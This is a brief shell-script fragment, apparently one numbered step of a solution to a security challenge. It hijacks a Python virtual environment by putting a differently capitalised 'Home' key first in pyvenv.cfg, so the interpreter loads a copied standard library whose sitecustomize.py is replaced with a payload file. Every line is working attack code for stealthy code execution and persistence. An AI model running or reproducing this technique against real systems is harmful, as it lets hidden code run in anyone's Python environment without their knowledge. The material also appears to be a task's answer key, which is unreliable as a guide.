# 8. A second, differently spelled `home` key put first in pyvenv.cfg (the interpreter trims
#    and lower-cases keys and takes the first): the whole standard library then comes from a
#    copy elsewhere, with a sitecustomize that loads the payload.
std=$(ls -d /usr/lib/python3.[0-9]* | grep -E 'python3\.[0-9]+$' | head -n 1)
mkdir -p /srv/bin /srv/lib
cp -a "$std" "/srv/lib/${std##*/}"
rm -f "/srv/lib/${std##*/}/sitecustomize.py"  # a link into /etc in Debian: replace it, not its target
cp /solution/forge.py "/srv/lib/${std##*/}/sitecustomize.py"
{ echo "Home = /srv/bin"; cat /opt/venv/pyvenv.cfg; } > /tmp/.cfg && cat /tmp/.cfg > /opt/venv/pyvenv.cfg
